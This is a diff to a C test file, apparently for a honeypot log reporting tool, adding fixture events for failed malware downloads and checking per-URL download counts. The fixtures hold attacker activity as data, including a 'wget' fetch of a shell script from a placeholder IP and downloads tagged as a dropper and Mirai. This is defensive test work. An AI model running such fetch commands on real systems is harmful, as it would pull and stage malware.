@@ -116,6 +116,12 @@ static void fill(void)
             "\"url\":\"http://203.0.113.50/x.sh\",\"shasum\":\"s1\",\"type\":\"POSIX shell script\","
             "\"family\":\"dropper\"");
     }
+    /* two tries of the same URL that failed, and a URL never fetched */
+    for (int i = 0; i < 2; i++)
+        ins(DAY1 + 415 + i, "session.file_download.failed", "192.0.2.1", 23,
+            "\"url\":\"http://203.0.113.50/x.sh\",\"reason\":\"connect\"");
+    ins(DAY1 + 418, "session.file_download.failed", "192.0.2.2", 23,
+        "\"url\":\"http://203.0.113.60/dead.sh\",\"reason\":\"dns\"");
     ins(DAY1 + 420, "command.input", "192.0.2.2", 23, "\"input\":\"uname -a\"");
     ins(DAY1 + 421, "session.file_download", "192.0.2.2", 23,
         "\"url\":\"http://203.0.113.50/m.arm\",\"shasum\":\"s2\",\"type\":\"ELF\",\"family\":\"mirai\"");
@@ -290,8 +296,12 @@ static void test_payloads_http(void **state)
     const struct rp_section *s = sec(&r, "commands");
     want_text(s, 0, 0, "wget http://203.0.113.50/x.sh"); want_num(s, 0, 1, 3);
     want_text(s, 1, 0, "uname -a");
-    s = sec(&r, "downloads");
-    want_text(s, 0, 0, "http://203.0.113.50/x.sh"); want_num(s, 0, 1, 3); want_text(s, 0, 4, "s1");
+    s = sec(&r, "downloads");       /* attempts, fetched, sources, type, sha256 */
+    assert_int_equal(s->nrows, 3);
+    want_text(s, 0, 0, "http://203.0.113.50/x.sh"); want_num(s, 0, 1, 5); want_num(s, 0, 2, 3);
+    want_num(s, 0, 3, 1); want_text(s, 0, 5, "s1");
+    want_text(s, 1, 0, "http://203.0.113.50/m.arm"); want_num(s, 1, 1, 1); want_num(s, 1, 2, 1);
+    want_text(s, 2, 0, "http://203.0.113.60/dead.sh"); want_num(s, 2, 1, 1); want_num(s, 2, 2, 0);
     s = sec(&r, "payloads");
     assert_int_equal(s->nrows, 2);
     want_text(s, 0, 0, "s1"); want_text(s, 0, 1, "dropper"); want_num(s, 0, 3, 3);
